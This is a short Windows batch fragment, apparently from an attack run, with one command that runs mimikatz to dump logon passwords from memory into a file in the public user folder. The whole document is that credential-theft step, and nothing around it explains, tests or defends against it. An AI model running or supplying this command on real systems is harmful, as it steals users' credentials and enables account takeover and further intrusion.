REM run 8352 v4
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
